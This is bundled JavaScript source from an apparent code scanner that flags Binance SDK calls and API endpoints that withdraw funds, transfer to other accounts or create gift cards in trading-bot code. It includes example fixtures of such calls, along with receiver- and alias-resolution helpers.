	const typedSo = isGo ? String.raw`(?<![\w$])${named$2}\s{1,9}\*?${type}\b` : String.raw`(?<![\w$])${named$2}\s{0,9}[?!]?:\s{0,9}(?:[&*]|mut\s|dyn\s|impl\s|(?:Box|Arc|Rc|Option|Optional)[<[]){0,5}${type}\b|\b${type}(?:<[^<>\n]{0,60}>)?[&*?]{0,2}\s{1,9}\$?${named$2}\s{0,9}[;,)={]`;
	for (const [, first, second] of text.matchAll(new RegExp(typedSo, "g"))) yield first ?? second ?? "";
}
const binanceTypes = /(?:^|[.:\\])(?:MainClient|USDMClient|CoinMClient|PortfolioClient|I?Binance\w*(?:Client|Api|API|Exchange|Service|Account|Rest)\w*|Binance|SpotClient(?:Impl)?|SpotRestApi|SpotAccountTrade|WalletRestApi|AsyncClient|UMFutures|CMFutures|binanceusdm|binancecoinm|binanceus)$|(?:^|[.:\\])ccxt(?:\.\w+)?\.binance\w*$|^binance\.(?:Client|Spot|AsyncClient)$|^binance\.(?:client\.)?\w*Client$/;
/** Remembers what the names of a document stand for. Linear in the text: every part of the patterns is bounded. */
function receiversOf({ document: { text }, reading }) {
	const { imports } = reading;
	const owners = /* @__PURE__ */ new Map();
	const isSdkFile = imports.some((name) => /binance|^ccxt/i.test(name) && !chain.test(name));
	const isModular = imports.some((name) => /^@binance\/|^binance_sdk/.test(name));
	const isElsewhere = !isSdkFile && imports.some((name) => /(?:^|[/.@\\])(?:ethers|web3|viem|wagmi|hardhat|brownie|ape|truffle|solana|starknet|near-api-js|thirdweb)/i.test(name) || require_worth_reading.meaningOf(name).exchange !== void 0);
	const own = (name, owner) => {
		const known = owners.get(name);
		owners.set(name, known === void 0 || known === "unknown" || known === owner ? owner : owner === "unknown" ? known : "unknown");
	};
	const told = /* @__PURE__ */ new Map();
	const toldBy = (name) => {
		let owner = told.get(name);
		if (owner === void 0) told.set(name, owner = named_([name]));
		return owner;
	};
	const makers = /* @__PURE__ */ new Map();
	const made = (callee) => {
		let owner = makers.get(callee);
		if (owner === void 0) makers.set(callee, owner = madeBy(callee));
		return owner;
	};
	const madeBy = (callee) => {
		const joined = callee.replaceAll(/::|->|\\/g, ".").replace(/^\.|\.$/g, "");
		if (sdkCalls.some((row) => row.callee.test(joined) && (!row.imports || imports.some((one) => row.imports.test(one))))) return "binance";
		if (isModular && modularTypes.test(joined)) return "binance";
		const type = joined.replace(/\.(?:new|production|testnet|demo|builder|default|create|from_\w{1,20}|with_\w{1,20})$/, "");
		if (type !== joined && isSdkFile && (binanceTypes.test(type) || isModular && /RestApi$/.test(type))) return "binance";
		if (contracts.test(joined)) return "other";
		return named_(joined.split("."));
	};
	const typeOwner = (type) => {
		const joined = type.replaceAll("::", ".");
		if (imports.some((name) => /binance/i.test(name) && !chain.test(name) && name.split(/[.:\\/]+/).at(-1) === joined)) return "binance";
		if (isModular && modularTypes.test(joined)) return "binance";
		if (contracts.test(joined)) return "other";
		if (/^(?:Spot|Client|Wallet|RestAPI|RestApi)$/.test(joined)) return isSdkFile ? "binance" : "unknown";
		return binanceTypes.test(joined) ? "binance" : require_worth_reading.meaningOf(joined).exchange !== void 0 ? "other" : "unknown";
	};
	for (const [, name = "", callee = ""] of text.matchAll(assigned$2)) own(name, made(callee));
	for (const [, name = "", callee = ""] of text.matchAll(member)) own(name, made(callee));
	for (const [, callee = "", name = ""] of text.matchAll(opened)) own(name, made(callee));
	for (const [, name = "", exchange = ""] of text.matchAll(dynamic)) {
		const told = named_([exchange]);
		if (told !== "unknown") own(name, told);
	}
	for (const [, name = "", type = ""] of text.matchAll(typed)) {
		const owner = typeOwner(type);
		if (owner !== "unknown") own(name, owner);
	}
	for (const [, type = "", name = ""] of text.matchAll(declared)) {
		const owner = typeOwner(type);
		if (owner !== "unknown") own(name, owner);
	}
	for (const [, name = "", type = ""] of text.matchAll(pointed)) {
		const owner = typeOwner(type);
		if (owner !== "unknown") own(name, owner);
	}
	for (const name of ofDeclaredTypes(text, reading.language === "go")) own(name, "other");
	return {
		isElsewhere,
		ownerOf({ receiver }) {
			const [only = "", ...others] = receiver;
			if (!owners.has(only) && others.every((one) => parts.test(one))) {
				const constructed = made(only);
				if (constructed !== "unknown") return constructed;
			}
			for (const one of [...receiver].reverse()) {
				const name = one.replace(/^[$@]|[!?]$/g, "");
				const bound = owners.get(name);
				if (bound === "binance" || bound === "other") return bound;
				if (parts.test(name)) continue;
				const owner = toldBy(name);
				if (owner !== "unknown") return owner;
			}
			return made(receiver.join("."));
		}
	};
}
/** What names say by themselves. */
function named_(steps) {
	const joined = steps.join(".");
	if (elsewhere.test(joined) && !/binance/i.test(steps.at(-1) ?? "")) return "other";
	if (/binance/i.test(joined) && !chain.test(joined)) return /vault|contract|token|pool|bridge|mock|fake|stub|paper/i.test(joined) ? "other" : "binance";
	if (/^(?:bn|bnc|bnb_?client|bn_?client)$/i.test(steps.at(-1) ?? "")) return "binance";
	return steps.some((one) => require_worth_reading.meaningOf(one).exchange !== void 0) ? "other" : "unknown";
}
// ../engine/dist/risks/names-in-text.js
/** Longer names are cut. */
const longest$5 = 80;
/** The name around a place, its steps and dashes included: `client.withdraw-all`. */
function nameAt(text, at) {
	let start = at;
	while (start > 0 && at - start < longest$5 && isOfName(text.charCodeAt(start - 1))) start -= 1;
	let end = at;
	while (end < text.length && end - at < longest$5 && isOfName(text.charCodeAt(end))) end += 1;
	return {
		start,
		end
	};
}
function isOfName(code) {
	return code >= 97 && code <= 122 || code >= 65 && code <= 90 || code >= 48 && code <= 57 || code === 95 || code === 46 || code === 45;
}
// ../engine/dist/rules/fund-calls.js
/**
* How the SDKs and the API name what moves money out of an account: withdrawals, transfers to other accounts, gift cards.
* Data only. Sources: Binance’s API reference (wallet, sub-account, gift card, broker), and each SDK’s own methods.
*/
const out = "withdraws";
const over = "transfers to another account";
const card = "makes a gift card";
/**
* `/asset/transfer` and `/futures/transfer` are not among them: they move between the wallets of one account.
*/
const fundEndpoints = [
	{
		path: "capital/withdraw/apply",
		moves: out
	},
	{
		path: "localentity/withdraw/apply",
		moves: out
	},
	{
		path: "localentity/broker/withdraw/apply",
		moves: out
	},
	{
		path: "broker/withdraw/apply",
		moves: out,
		needsPrefix: true
	},
	{
		path: "fiat/withdraw",
		moves: out,
		needsPrefix: true
	},
	{
		path: "managed-subaccount/withdraw",
		moves: out
	},
	{
		path: "managed-subaccount/deposit",
		moves: over
	},
	{
		path: "withdraw.html",
		moves: out,
		needsPrefix: true
	},
	{
		path: "sub-account/transfer/subToSub",
		moves: over
	},
	{
		path: "sub-account/transfer/subToMaster",
		moves: over
	},
	{
		path: "sub-account/universalTransfer",
		moves: over,
		listsToo: true
	},
	{
		path: "sub-account/futures/transfer",
		moves: over
	},
	{
		path: "sub-account/futures/internalTransfer",
		moves: over,
		listsToo: true
	},
	{
		path: "sub-account/margin/transfer",
		moves: over
	},
	{
		path: "broker/transfer",
		moves: over,
		listsToo: true,
		needsPrefix: true
	},
	{
		path: "broker/transfer/futures",
		moves: over,
		listsToo: true,
		needsPrefix: true
	},
	{
		path: "broker/universalTransfer",
		moves: over,
		listsToo: true,
		needsPrefix: true
	},
	{
		path: "giftcard/createCode",
		moves: card
	},
	{
		path: "giftcard/buyCode",
		moves: card
	}
];
/** First match wins. What only reads is told by `reading` before. */
const fundMethods = [
	{
		name: /^(?:submit|new|create)?(?:travelrulewithdraw|withdrawtravelrule)\w{0,12}$/,
		moves: out,
		isDistinctive: true
	},
	{
		name: /(?:post|_)(?:capital|localentity)\w{0,6}withdrawapply$/,
		moves: out,
		isDistinctive: true
	},
	{
		name: /^newcreatewithdrawservice$/,
		moves: out,
		isDistinctive: true
	},
	{
		name: /^(?:new)?managedsubaccountwithdraw(?:al)?(?:service)?$/,
		moves: out,
		isDistinctive: true
	},
	{
		name: /^withdrawl?assetsfrom(?:the)?managedsubaccount$/,
		moves: out,
		isDistinctive: true
	},
	{
		name: /^(?:broker|localentity|capital|fiat|crypto|asset)withdraw(?:al|apply)?$/,
		moves: out
	},
	{
		name: /^(?:new|submit|create|make|request|apply|do|post|execute|initiate)?withdraw(?:al)?(?:apply|crypto|fiat|asset|coin|request|service|tocrypto|toaddress|funds)?$/,
		moves: out
	},
	{
		name: /^(?:new|make|create|submit|do)?subaccount(?:to(?:sub(?:account)?|master)transfer|transferto(?:sub|master|same|the)\w{0,16}|(?:futures?|margin|universal|futuresasset|futuresinternal)transfer)(?:service)?$/,
		moves: over,
		isDistinctive: true
	},
	{
		name: /^(?:new|make|create|submit|do)?(?:managed)?subaccount(?:asset|internal)?transfer(?:service)?$/,
		moves: over
	},
	{
		name: /^(?:new)?(?:transferto(?:subaccountofsamemaster|samemaster|master|subaccount)|(?:futures|margin|universal)transferforsubaccount)(?:service|account)?$/,
		moves: over
	},
	{
		name: /^transfer(?:between|from|to)?sub(?:accounts?|tosub|tomaster)\w{0,20}$|^transfermasterto\w{1,20}$/,
		moves: over
	},
	{
		name: /^(?:new)?(?:managedsubaccountdeposit|depositassetsinto(?:the)?managedsubaccount)(?:service)?$/,
		moves: over,
		isDistinctive: true
	},
	{
		name: /^(?:universaltransferbroker|transferbrokersubaccount|submitbrokersubfuturestransfer)$/,
		moves: over,
		isDistinctive: true
	},
	{
		name: /^(?:new)?broker(?:age)?(?:subaccount)?(?:universal|futures)?transfer(?:service)?$/,
		moves: over
	},
	{
		name: /post(?:subaccount(?:transfersubtosub|transfersubtomaster|universaltransfer|futurestransfer|futuresinternaltransfer|margintransfer)|broker(?:universaltransfer|transfer(?:futures)?)|managedsubaccount(?:withdraw|deposit))$/,
		moves: over,
		isDistinctive: true
	},
	{
		name: /^(?:new|make|submit)?universaltransfer(?:service)?$|^transfer$/,
		moves: over,
		needsAccount: true
	},
	{
		name: /^(?:new)?(?:giftcard(?:create\w{0,16}|buycode)|create(?:a|an)?(?:single|dual)tokengiftcard)(?:service)?$/,
		moves: card,
		isDistinctive: true
	},
	{
		name: /^(?:new)?(?:creategiftcards?|buygiftcards?|createcode)$/,
		moves: card
	},
	{
		name: /postgiftcard(?:createcode|buycode)$/,
		moves: card,
		isDistinctive: true
	}
];
/** Steps that only read, or that answer to what others did. */
const reading = /^(?:get|query|fetch|list|show|find|search|load|read|count|parse|has|is|can|check|on|handle|log|watch|estimate|enable|disable|max|redeem|verify|test|mock|assert|validate|cancel)|history|histories|quota|(?:fee|fees|addresslist|status|limit|limits|info|log|logs|record|records|list|address|addresses|enabled|switch|able|response|error|params|schema|type|permission|permissions)$/;
/** Names that shops, banks and other exchanges share: they count only on a client of Binance. */
const sharedNames = /^createcode$|^(?:create|buy)giftcards?$|^transfer$/;
// ../engine/dist/rules/fund-moving-call.js
/** Code that moves money out of an account. Not what reads about it, and not transfers between wallets of one account. */
const endpoints$1 = new Map(fundEndpoints.map((one) => [one.path.toLowerCase(), one]));
/** The prefix, then the path; the longest first. */
const paths$1 = new RegExp(`(?:(\\/?\\b(?:sapi|wapi|api)\\/v\\d\\/)|(?<=["'\`}]\\/?(?:v\\d\\/)?))(${fundEndpoints.map(({ path }) => path).sort((a, b) => b.length - a.length).map((path) => path.replace(".", "\\.")).join("|")})(?![\\w/-])`, "gi");
/** More ways out than this are named by lists of what there is, as of what may not be called. */
const mostOfABot = 7;
/** What of a name says only how it is called. */
function methodName(method) {
	return folded(method).replace(/(?:async|sync|withhttpinfo|call)$/, "");
}
/** Names in which one of these stands may be of a method that moves money. */
const methodWord = /withdraw|card|code|account|transfer|brok/gi;
/** Whether a text names one of the methods, in whatever way it is called. */
function namesMethod(text) {
	const seen = /* @__PURE__ */ new Set();
	for (const { index } of text.matchAll(methodWord)) {
		const { start, end } = nameAt(text, index);
		const name = text.slice(start, end);
		if (seen.has(name)) continue;
		seen.add(name);
		for (const one of /* @__PURE__ */ new Set([name, ...name.split(/[-.]/)])) if (methodOf$1(methodName(one)) !== void 0) return true;
	}
	return false;
}
/** What a method of a folded name moves, if anything. */
function methodOf$1(name) {
	return reading.test(name) ? void 0 : fundMethods.find((one) => one.name.test(name));
}
const fundMovingCall = {
	id: "fund-moving-call",
	title: "Code that moves money out",
	severity: "low",
	finds: "Calls that withdraw, transfer to another account or make a gift card, by the method of any Binance SDK or by the endpoint’s path. With the destination written in the code: medium.",
	why: "The key that such code needs can empty the account. Whoever takes the bot’s key, or changes one line of the code, sends the money where they like, and no withdrawal can be called back. Most bots never need this right.",
	advice: [
		"If the bot does not have to pay out, delete the call and leave “Enable Withdrawals” off.",
		"If it does, use a key of its own for it, with an IP list and Binance’s withdrawal address whitelist.",
		"Keep the destination out of the code, and have a person confirm it."
	],
	references: [
		"https://developers.binance.com/docs/wallet/capital/withdraw",
		"https://developers.binance.com/docs/sub_account/asset-management/Universal-Transfer",
		"https://developers.binance.com/docs/gift_card/market-data"
	],
	mayFind: ({ text }) => namesMethod(text) || text.search(paths$1) >= 0,
	*look(subject) {
		if (subject.isProse || /\.sol$/.test(subject.document.path)) return;
		const mappings = mappingsOf(subject);
		yield* byMethod(subject, mappings);
		if (!isSdkSource(subject.document.text)) yield* byEndpoint$1(subject, mappings);
	},
	examples: {
		leaks: [
			{
				path: "pay.py",
				text: "import ccxt\nbinance = ccxt.binance({\"apiKey\": key})\ndef pay(row):\n    binance.transfer(\"USDT\", 5, \"future\", \"spot\")\n    return «binance.withdraw»(row.coin, row.amount, row.address)"
			},
			{
				path: "pay.js",
				text: "import { Spot } from '@binance/connector';\nconst client = new Spot(key, secret);\nconst COLD = '0x00000000000000000000000000000000000000a1';\nawait «client.withdraw»('USDT', COLD, 250);\nawait client.withdrawHistory({ coin: 'USDT' });"
			},
			{
				path: "main.go",
				text: "import \"github.com/adshao/go-binance/v2\"\nfunc pay(client *binance.Client) {\n	«client.NewCreateWithdrawService»().\n		Coin(\"BTC\").\n		Do(ctx)\n}"
			},
			{
				path: "Pay.cs",
				text: "using Binance.Net.Clients;\nclass Pay { async Task Go(BinanceRestClient client) { await «client.SpotApi.Account.WithdrawAsync»(\"USDC\", address, 100m); } }"
			},
			{
				path: "split.py",
				text: "from binance import Client\nclient = Client(key, secret)\nclient.make_universal_transfer(type=\"MAIN_UMFUTURE\", asset=\"USDT\", amount=1)\n«client.make_subaccount_universal_transfer»(toEmail=partner, asset=\"USDT\", amount=1)\n«client.gift_card_create»(token=\"USDT\", amount=1)"
			},
			{
				path: "pay.php",
				text: "<?php\n$api = new Binance\\API(getenv('K'), getenv('S'));\n«$api->withdraw»($asset, $address, $amount);\n$api->withdrawFee($asset);"
			},
			{
				path: "api.rb",
				text: "@http.post(«'/sapi/v1/capital/withdraw/apply'», @signer.sign(coin: coin))"
			},
			{
				path: "pay.sh",
				text: "curl -X POST -H \"X-MBX-APIKEY: $KEY\" «\"https://api.binance.com/sapi/v1/giftcard/createCode?token=USDT&signature=$S\"»"
			},
			{
				path: "api.http",
				text: "POST «https://api.binance.com/sapi/v1/capital/withdraw/apply»\nX-MBX-APIKEY: {{key}}"
			},
			{
				path: "api.ts",
				text: "const paths = { send: «'/sapi/v1/sub-account/transfer/subToSub'», history: '/sapi/v1/capital/withdraw/history' };"
			},
			{
				path: "pay.rs",
				text: "use binance_sdk::wallet::WalletRestApi;\nasync fn pay() {\n    let rest = WalletRestApi::production(configuration);\n    «rest.withdraw»(params).await?;\n}"
			},
			{
				path: "Pay.java",
				text: "import com.binance.connector.client.impl.spot.Wallet;\nclass Pay {\n    private final Wallet wallet;\n    String go(Map<String, Object> parameters) { return «wallet.withdraw»(parameters); }\n}"
			},
			{
				path: "sub.ts",
				text: "import { SubAccount } from '@binance/sub-account';\nexport const send = (sub: SubAccount, toEmail: string) => «sub.restAPI.transferToSubAccountOfSameMaster»({ toEmail, asset, amount });"
			}
		],
		clean: [
			{
				path: "pay.go",
				text: "import \"github.com/adshao/go-binance/v2\"\n\ntype chain interface{ Withdraw(to string, wei int64) error }\n\nfunc out(c chain, address string) error { return c.Withdraw(address, 5) }"
			},
			{
				path: "bank.py",
				text: "import binance\naccount = BankAccount(\"Ada\")\naccount.withdraw(10)\naccount.transfer(other, 5)"
			},
			{
				path: "vault.ts",
				text: "import { Spot } from '@binance/connector';\nimport { Contract } from 'ethers';\nconst vault = new Contract(address, abi, signer);\nawait vault.withdraw(shares, to, owner);"
			},
			{
				path: "hedge.py",
				text: "import ccxt\nbinance = ccxt.binance()\nbinance.transfer(\"USDT\", 5, \"spot\", \"future\")\nbinance.fetch_withdrawals()\nkraken = ccxt.kraken()\nkraken.withdraw(\"XBT\", 1, \"cold\")"
			},
			{
				path: "client.ts",
				text: "export interface BinanceClient { withdraw(coin: string, address: string, amount: number): Promise<void>; }"
			},
			{
				path: "guard.py",
				text: "# api.binance.com\nFORBIDDEN = [\"/sapi/v1/capital/withdraw/apply\"]\nif path == \"/sapi/v1/capital/withdraw/apply\":\n    raise ValueError(path)\nWEIGHTS = {\"/sapi/v1/capital/withdraw/apply\": 600}\n# requests.post(\"/sapi/v1/capital/withdraw/apply\")"
			},
			{
				path: "list.js",
				text: "signed('GET', '/sapi/v1/sub-account/universalTransfer', {});\nsigned('GET', '/sapi/v1/capital/withdraw/address/list', {});\nsigned('POST', '/sapi/v1/asset/transfer', { type: 'MAIN_MARGIN' });"
			},
			{
				path: "README.md",
				text: "Binance withdraws by `POST /sapi/v1/capital/withdraw/apply`:\n```py\nclient.withdraw(coin=c, address=a, amount=1)\n```"
			},
			{
				path: "client.go",
				text: "package bot\n\n// Binance\nfunc (b *Bot) Sell() error {\n	return b.withdraw(\"USDT\", address, 5)\n}"
			}
		],
		missed: [{
			path: "pay.ts",
			text: "import { Spot } from '@binance/connector';\nconst send = new Spot(key, secret)['with' + 'draw'];\nsend('USDT', address, 5);",
			because: "a method that is put together when the program runs has no name to see"
		}, {
			path: "pay.py",
			text: "from mybinance import withdraw\nwithdraw(\"USDT\", address, 5)",
			because: "a function of the program’s own; where it calls Binance is what is found"
		}]
	}
};
/** Of a chain with more such steps, which one finding tells of, the first ones are looked at. */
const mostSteps$3 = 200;
function* byMethod(subject, mappings) {
	const { reading: read, document } = subject;
	let receivers;
	const seen = /* @__PURE__ */ new Set();
	const isOften = oftenAt(mostSteps$3);
	for (const call of read.calls) {
		const method = methodOf$1(methodName(call.callee.at(-1) ?? ""));
		if (!method || isOften(call.span.start)) continue;
		const callee = calleeOf(call, document.text);
		if (seen.has(callee.start) || !isCalled(call, callee, subject)) continue;
		receivers ??= receiversOf(subject);
		const risk = movedBy(call, callee, method, subject, receivers, mappings);
		if (!risk) continue;
		seen.add(callee.start);
		yield risk;
	}
}
function movedBy(call, callee, method, subject, receivers, mappings) {
	const owner = receivers.ownerOf(callee);
	if (owner === "other") return void 0;
	const { given } = argumentsOf(call, subject, mappings);
	if (method.needsAccount && !namesAccount(given)) return void 0;
	const isOwn = owner === "binance" || method.isDistinctive === true;
	if (!isOwn) {
		if (receivers.isElsewhere || sharedNames.test(methodName(callee.method))) return void 0;
		if (method.moves === "withdraws" && !looksLikeWithdrawal(given)) return void 0;
	}
	const name = [...callee.receiver, callee.method].join(".").replace(/^\$/, "");
	const whose = owner === "binance" ? [clue("sdk-call", "it is called on a client of Binance")] : method.isDistinctive ? [clue("binance-setting", `${callee.method} is a method of Binance’s SDKs`)] : [];
	return {
		span: {
			start: callee.start,
			end: callee.end
		},
		name,
		message: said(`${shownName(name)}()`, method.moves, isFixed(given)),
		...isFixed(given) ? { severity: "medium" } : {},
		...isOwn ? {} : { confidence: "likely" },
		clues: whose
	};
}
function* byEndpoint$1(subject, mappings) {
	const named = [...endpointsIn(subject, paths$1)];
	if (new Set(named.map(({ path }) => path)).size > mostOfABot) return;
	for (const endpoint of named) {
		const known = endpoints$1.get(endpoint.path);
		if (!known || known.needsPrefix && !endpoint.hasPrefix) continue;
		if (endpoint.method === "GET" || endpoint.method === "DELETE") continue;
		if (known.listsToo && endpoint.method === void 0 && readsOnly(endpoint)) continue;
		const fixed = endpoint.call !== void 0 && isFixed(argumentsOf(endpoint.call, subject, mappings).given) || isFixed([...new URLSearchParams(endpoint.query)].map(([name, text]) => ({
			name: folded(name),
			span: endpoint.span,
			value: {
				kind: "text",
				text,
				pieces: []
			}
		})));
		yield {
			span: endpoint.span,
			name: known.path,
			message: said(`The endpoint ${known.path}`, known.moves, fixed),
			...fixed ? { severity: "medium" } : {},
			clues: endpoint.hasPrefix ? [clue("binance-setting", `${known.path} is an endpoint of Binance’s API`)] : []
		};
	}
}
function readsOnly({ call }) {
	return call !== void 0 && reading.test(folded(call.callee.at(-1) ?? ""));
}
function said(what, moves, isFixedThere) {
	return `${what} ${moves}${isFixedThere ? ", and the destination stands in the code" : ""}: the key needs the right to move money`;
}
/** Receivers may be long; the end tells the most. */
function shownName(name) {
	return name.length > 80 ? `…${name.slice(-78)}` : name;
}
// ../engine/dist/risks/calls/base-names.js
/** What settings, steps of builders and variables are called that say where a client’s requests go, and what others are. Names are folded. */
/** Options that say where a client’s requests go. */
const baseNames = /(?:^|[a-z])(?:base(?:api|rest|http|ws)?(?:url|uri|path|endpoint|address|host)(?:http|ws|rest|api|spot|futures)?|http(?:base|futures)|wsbase|(?:api|rest|fapi|dapi|sapi|papi|eapi|spot|futures?|binance|exchange|server|service|proxy|relay|mirror|gateway|main|root)(?:api|rest)?(?:url|uri|base|baseurl|endpoint|host|basepath|address|root)s?|restapi(?:endpoint|url)?|futuresrestapiendpoint|rest(?:url|base|endpoint|host)|endpoint(?:url)?)$/;
/** Names that mean it only of a client, or beside its keys. */
const shortNames = /^(?:url|host|hostname|endpoint|base|server|api|rest|spot|fapi|dapi|sapi|eapi|papi|public|private|fapipublic|fapiprivate|fapiprivatev2|dapipublic|dapiprivate|v1|v3|httpbase)$/;
/** Where other things are sent: notices, prices, updates, and pages. */
const otherNames = /webhook|hook|callback|redirect|notify|alert|telegram|discord|slack|sentry|grafana|prometheus|influx|redis|mongo|postgres|database|^db|dburl|amqp|kafka|docs?(?:url)?$|homepage|website|siteurl|weburl|referr?al|referr?er|logo|icon|image|img|avatar|news|rss|feed|report|dashboard|frontend|backend|appurl|repo(?:sitory)?|download|update|support|help|login|oauth|auth(?:url|host)|metrics|trace|otel|log(?:url|host)|license|push|monitor|health|chart|price|explorer|rpc|chain|scan|cors|origin|publicurl|public_?data|market_?data|status|candle|kline|histor|archive|dataset|snapshot|storage|s3|bucket|cdn|ref(?:url|link)$|invite|affiliate|signup|register|pageurl|tradeurl|ollama|openai|llm|signal/;
/** Names that only SDKs of Binance have. */
const ownNames = /^(?:futures)?restapiendpoint$|^http(?:base|futures)$|^basepath$|^baseurlhttp$/;
/** Forward proxies: they carry an encrypted connection and see nothing of it. */
const proxyNames = /^(?:https?|socks\d?|ws|wss|all)?_?(?:proxy|proxies|proxyhost|proxyurls?)$|(?:https?|socks5?|ws|wss)proxy$|^(?:https?|no|all)_proxy$/i;
const proxyPort = /^https?:\/\/[^/]{1,200}:(?:3128|8080|8118|8888|1080|7890|7891|10809|8899)\/?$/i;
/** Setters of builders and options as functions: `.base_path("…")`, `WithBasePath("…")`, `client.setUrl("…")`. */
const setters = /^(?:with|set)?_?(?:ws|rest)?_?(?:base_?(?:api_?)?(?:url|uri|path|endpoint|address)|api_?(?:url|endpoint|base)|rest_?(?:api_?)?(?:endpoint|url)|futures_?rest_?api_?endpoint|url|endpoint|host|proxy_?url|ssl_?uri|plain_?text_?uri)$/i;
/** Steps of builders, and macros of classes, that take an address. */
const takers = /^(?:target|url|base_?(?:address|url|uri)|prefix_?url|root_?uri|plug|client_?options?)$/i;
// ../engine/dist/risks/settings/exchange-of.js
/** Which exchange an entry's neighbours say it is for: `exchange: binance` beside it. */
const exchangeKey = /^(?:name|id|exchange|exchangename|exchangeid|brokerage|broker|venue|connector|platform|provider)$/;
const farthestAbove$1 = 20;
const known$11 = /* @__PURE__ */ new WeakMap();
/** `binance`, another exchange's name, or undefined where nothing beside it tells. */
function exchangeOf({ container, path }, subject) {
	let beside = known$11.get(subject);
	if (!beside) known$11.set(subject, beside = collect$2(subject));
	const own = beside.get(placeOf$1(container, path));
	if (own !== void 0) return own;
	for (let depth = path.length - 2; depth > 0 && path.length - depth <= farthestAbove$1; depth -= 1) {
		const above = beside.get(path.slice(0, depth).join("\0"));
		if (above !== void 0) return above;
	}
}
function collect$2({ settings }) {
	const found = /* @__PURE__ */ new Map();
	for (const { name, value, container, path } of settings) {
		if (!exchangeKey.test(name) || value.kind !== "text") continue;
		const { binance, exchange } = require_worth_reading.meaningOf(value.text);
		const told = binance === "name" ? "binance" : exchange;
		if (told === void 0) continue;
		found.set(placeOf$1(container, path), told);
		if (path.length > 1) found.set(path.slice(0, -1).join("\0"), told);
	}
	return found;
}
function placeOf$1(container, path) {
	return `${String(container)}\0${path.slice(0, -1).join("\0")}`;
}
// ../engine/dist/risks/calls/aliases.js
const known$10 = /* @__PURE__ */ new WeakMap();
/** Names of one package of Go by its path; its last step but a version. */
const goImport = /^[ \t]*(?:import[ \t]+)?([A-Za-z_]\w{0,60})[ \t]+"([\w.-]{1,100}\/[\w./-]{1,200})"/gm;
/** `import … as …`, `use … as …`, and a line of its own in brackets. */
const asStatement = /^[ \t]*(?:(?:pub[ \t]+)?(?:import|from|use|export)\b[^\n]{0,300}|[\w\\.:]{1,120}[ \t]+as[ \t]+\w{1,60},?[ \t]*)$/gm;
const asName = /([\w\\.:]{1,120})[ \t]+as[ \t]+([A-Za-z_]\w{0,60})/g;
/** `const { Spot: S } = require(…)` */
const taken = /\{([^{}]{1,300})\}\s{0,9}=\s{0,9}(?:await\s{1,9}import|require)\s{0,9}\(/g;
const takenName = /([A-Za-z_$][\w$]{0,60})\s{0,9}:\s{0,9}([A-Za-z_$][\w$]{0,60})/g;
/** `using Spot = Binance.Spot.SpotAccountTrade;` */
const using = /^[ \t]*(?:global[ \t]+)?(?:using|alias)[ \t]+([A-Za-z_]\w{0,60})[ \t]*=[ \t]*([\w.:]{1,200})/gm;
/** Scala’s `import a.b.{Spot => S}`, Elixir’s `alias A.B, as: C`. */
const arrow = /\b([A-Za-z_]\w{0,60})[ \t]*=>[ \t]*([A-Za-z_]\w{0,60})[ \t]*[},]/g;
const elixirAlias = /^[ \t]*alias[ \t]+([\w.]{1,120}),[ \t]*as:[ \t]*(\w{1,60})/gm;
/** By the alias the name it stands for, with dots between its steps. */
function aliasesOf(subject) {
	let aliases = known$10.get(subject);
	if (!aliases) known$10.set(subject, aliases = collect$1(subject));
	return aliases;
}
/** The callee with the name that its first step stands for; itself where that is no alias. */
function withoutAlias(callee, subject) {
	const first = callee[0];
	const name = first === void 0 ? void 0 : aliasesOf(subject).get(first);
	return name === void 0 ? callee : [...name.split("."), ...callee.slice(1)];
}
function collect$1({ reading: { language }, document: { text } }) {
	const found = /* @__PURE__ */ new Map();
	const add = (alias, name) => {
		if (alias && name && alias !== name && alias !== "_" && found.size < most$1) found.set(alias, dotted$1(name));
	};
	if (language === "go") {
		for (const [, alias, path = ""] of text.matchAll(goImport)) add(alias, packageName(path));
		return found;
	}
	for (const [statement] of text.matchAll(asStatement)) {
		const module = /^[ \t]*from[ \t]+([\w.]{1,120})[ \t]+import\b/.exec(statement)?.[1];
		for (const [, name, alias] of statement.matchAll(asName)) add(alias, module ? `${module}.${name}` : name);
		if (statement.includes("=>")) for (const [, name, alias] of statement.matchAll(arrow)) add(alias, name);
	}
	for (const [, names = ""] of text.matchAll(taken)) for (const [, name, alias] of names.matchAll(takenName)) add(alias, name);
	for (const [, alias, name] of text.matchAll(using)) add(alias, name);
	for (const [, name, alias] of text.matchAll(elixirAlias)) add(alias, name);
	return found;
}
const most$1 = 300;
/** What a package of Go is called where nobody gives it another name. */
function packageName(path) {
	const steps = path.split("/");
	return ((/^v\d+$/.test(steps.at(-1) ?? "") ? steps.at(-2) : steps.at(-1)) ?? "").replace(/^go-|-go$/g, "").replace(/-/g, "_");
}
function dotted$1(name) {
	return name.split(/[\\.:]+/).filter((step) => step !== "").join(".");
}
// ../engine/dist/risks/calls/clients.js
/** Calls that make clients of Binance, the names that hold these, and whether a client is given a key at all. */
/** Whether a call makes a client of Binance, by the tables of SDKs. */
function isSdkCall(call, subject) {
	let is = sdkCallsKnown.get(call);
	if (is === void 0) sdkCallsKnown.set(call, is = makesClient(call, subject));
	return is;
}
const sdkCallsKnown = /* @__PURE__ */ new WeakMap();
function makesClient(call, subject) {
	const { imports } = subject.reading;
	const callee = withoutAlias(call.callee, subject).join(".");
	if (sdkCalls.find((one) => one.callee.test(callee) && (!one.imports || imports.some((name) => one.imports.test(name))))) return true;
	if (!namesBinance(subject)) return false;
	if (subject.reading.language === "c" && call.callee.length === 1) {
		const type = declaredType.exec(subject.document.text.slice(Math.max(0, call.span.start - 100), call.span.start))?.[1];
		if (type !== void 0 && require_worth_reading.meaningOf(type).binance === "name") return true;
	}
	if (call.callee.some((step) => require_worth_reading.meaningOf(step).binance === "name")) return true;
	return !/config/i.test(callee) && callee.split(".").some((step) => require_worth_reading.meaningOf(step).binance === "name");
}
const declaredType = /(?<![\w.>])([A-Z]\w{1,80})\s{1,9}$/;
/** `class Relay(Client)`: whether a client of an SDK is what a class is made from. */
function isSdkClass(base, { reading: { imports } }) {
	if (base === void 0) return false;
	return require_worth_reading.meaningOf(base).binance === "name" || sdkCalls.some((one) => one.imports && one.callee.test(base) && imports.some((name) => one.imports.test(name)));
}
const binanceNamed = /* @__PURE__ */ new WeakMap();
function namesBinance(subject) {
	let names = binanceNamed.get(subject);
	if (names === void 0) binanceNamed.set(subject, names = /binance/i.test(subject.document.text));
	return names;
}
/** Whether a name is that of a key or a secret, whoever’s. */
function isKeyName(name) {
	if (secretName(name) !== void 0) return true;
	const { role, use, service } = require_worth_reading.meaningOf(name);
	return (role === "api-key" || role === "secret" || role === "private-key") && use === void 0 && service === void 0;
}
